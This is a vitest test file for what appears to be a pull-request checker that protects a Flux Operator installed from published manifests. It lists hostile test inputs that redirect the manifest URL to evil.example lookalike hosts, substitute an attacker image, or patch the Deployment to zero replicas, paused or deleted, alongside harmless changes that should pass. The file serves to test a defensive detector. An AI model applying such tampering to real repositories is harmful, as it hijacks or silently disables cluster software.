import { describe, expect, it } from 'vitest'
import { home, judged } from '../support/judged.js'
import { add, all, app, applied, edit, list, operator, release, remove, replace, type Change } from './changes.js'

// attack: An operator is installed from its published manifests, and a pull request leaves the version and takes it from another host, gives it another image, or patches it so that it does not run.
// stops: What stands before the project's name is compared with the base; what kustomizations and patches make of the operator's Deployment is looked at, as far as they can mean it.

const append = (path: string, more: string): Change => edit(path, (text) => text + more)
const image = 'ghcr.io/controlplaneio-fluxcd/flux-operator'
const address = 'https://github.com/controlplaneio-fluxcd/flux-operator/releases/download/v0.37.1/install.yaml'
const listOf = (...resources: readonly string[]): string =>
  `apiVersion: kustomize.config.k8s.io/v1beta1\nkind: Kustomization\nnamespace: flux-system\nresources:\n${resources.map((each) => `  - ${each}\n`).join('')}`
const withoutChart = all(remove(operator), remove(release))
const remote: Change = all(
  withoutChart,
  edit(list, () => listOf(address)),
)
const deployment = `apiVersion: apps/v1\nkind: Deployment\nmetadata: {name: flux-operator, namespace: flux-system}\nspec:\n  replicas: 1\n  selector: {matchLabels: {a: b}}\n  template:\n    metadata: {labels: {a: b}}\n    spec:\n      containers:\n        - name: manager\n          image: ${image}:v0.37.1\n`
const local: Change = all(
  withoutChart,
  add(`${app}/install.yaml`, deployment),
  edit(list, () => listOf('install.yaml')),
)
const patch = (target: string, operation: string): Change =>
  append(list, `patches:\n  - target: {${target}}\n    patch: |\n      - ${operation}\n`)
const merge = (text: string): Change =>
  append(
    list,
    `patches:\n  - patch: '{"apiVersion": "apps/v1", "kind": "Deployment", "metadata": {"name": "flux-operator"}, ${text}}'\n`,
  )
const images = (entry: string): Change => append(list, `images: [{name: ${image}, ${entry}}]\n`)

const attacks: readonly (readonly [name: string, base: Change, change: Change, code: string])[] = [
  [
    'a host that begins like the other',
    remote,
    replace(list, 'github.com', 'github.com.evil.example'),
    'source-changed',
  ],
  ['a host behind a user', remote, replace(list, 'github.com', 'github.com@evil.example'), 'source-changed'],
  ['a proxy before the address', remote, replace(list, 'https://', 'https://evil.example/https://'), 'source-changed'],
  ['another image', remote, images('newName: evil.example/x'), 'source-changed'],
  ['a digest alone', remote, images(`digest: "sha256:${'a'.repeat(64)}"`), 'source-changed'],
  [
    'another image by an expression',
    remote,
    append(list, 'images: [{name: "ghcr.io/.*", newName: evil.example/x}]\n'),
    'source-changed',
  ],
  [
    'another image by a Flux Kustomization',
    remote,
    append(applied, `  images: [{name: ${image}, newName: evil.example/x}]\n`),
    'source-changed',
  ],
  ['no replica', remote, append(list, 'replicas: [{name: flux-operator, count: 0}]\n'), 'pin-lost'],
  [
    'an image by a patch',
    remote,
    patch('kind: Deployment', '{op: replace, path: /spec/template/spec/containers/0/image, value: evil.example/x}'),
    'source-changed',
  ],
  [
    'a patch of the whole container',
    remote,
    patch(
      'name: flux-operator',
      '{op: replace, path: /spec/template/spec/containers/0, value: {name: manager, image: "evil.example/x:v0.37.1"}}',
    ),
    'source-changed',
  ],
  ['no replica by a patch', remote, patch('kind: D.*', '{op: replace, path: /spec/replicas, value: 0}'), 'pin-lost'],
  ['a copied number', remote, patch('kind: Deployment', '{op: copy, from: /x, path: /spec/replicas}'), 'pin-lost'],
  ['no replica by a merge', remote, merge('"spec": {"replicas": 0}'), 'pin-lost'],
  ['a pause', remote, merge('"spec": {"paused": true}'), 'pin-lost'],
  ['no template', remote, merge('"spec": {"template": null}'), 'pin-lost'],
  [
    'another command',
    remote,
    merge('"spec": {"template": {"spec": {"containers": [{"name": "manager", "command": ["x"]}]}}}'),
    'pin-lost',
  ],
  ['no Deployment', remote, merge('"$patch": "delete"'), 'pin-lost'],
  [
    'no account',
    remote,
    append(
      list,
      'patches:\n  - target: {kind: ServiceAccount}\n    patch: "{$patch: delete, kind: ServiceAccount, metadata: {name: x}}"\n',
    ),
    'pin-lost',
  ],
  ['no replica in its own file', local, replace(`${app}/install.yaml`, 'replicas: 1', 'replicas: 0'), 'pin-lost'],
  ['a pause in its own file', local, replace(`${app}/install.yaml`, 'replicas: 1', 'paused: true'), 'pin-lost'],
  [
    'a patch of its own file by a Flux Kustomization',
    local,
    append(
      applied,
      '  patches:\n    - target: {kind: Deployment}\n      patch: |\n        - {op: replace, path: /spec/replicas, value: 0}\n',
    ),
    'pin-lost',
  ],
]

const harmless: readonly (readonly [name: string, base: Change, change: Change])[] = [
  [
    'the same files by another address of GitHub',
    remote,
    replace(list, 'https://github.com', 'https://www.github.com'),
  ],
  ['one more file of the same release', remote, append(list, `  - ${address.replace('install', 'crds')}\n`)],
  ['another image of others', remote, append(list, 'images: [{name: nginx, newName: mirror.example/nginx}]\n')],
  [
    'more room',
    remote,
    patch(
      'kind: Deployment',
      '{op: add, path: /spec/template/spec/containers/0/resources, value: {limits: {memory: 1Gi}}}',
    ),
  ],
  ['two replicas', remote, append(list, 'replicas: [{name: flux-operator, count: 2}]\n')],
  [
    'no replica of others',
    remote,
    append(
      list,
      'patches:\n  - target: {kind: Deployment, name: other}\n    patch: |\n      - {op: replace, path: /spec/replicas, value: 0}\n',
    ),
  ],
  [
    'a container beside it',
    remote,
    merge(
      '"spec": {"template": {"spec": {"containers": [{"name": "proxy", "image": "example.com/p:1", "command": ["p"]}]}}}',
    ),
  ],
  [
    'a policy that goes',
    remote,
    append(
      list,
      'patches:\n  - target: {kind: NetworkPolicy}\n    patch: "{$patch: delete, kind: NetworkPolicy, metadata: {name: x}}"\n',
    ),
  ],
  ['labels', local, append(list, 'labels: [{pairs: {a: b}}]\n')],
  [
    'a mirror that the base has',
    all(remote, replace(list, 'https://', 'https://mirror.example/')),
    append(list, 'buildMetadata: [originAnnotations]\n'),
  ],
]

describe('an operator from manifests', () => {
  it.each(attacks)('%s', async (_name, base, change, code) => {
    const before = base(home())
    const { conclusion, introduced } = await judged(before, change(before))
    expect(conclusion).toBe('failure')
    expect(introduced.join('\n')).toContain(`error ${code} `)
  })

  it.each(harmless)('lets pass: %s', async (_name, base, change) => {
    const before = base(home())
    const { introduced } = await judged(before, change(before))
    expect(introduced.filter((one) => one.startsWith('error'))).toEqual([])
  })
})
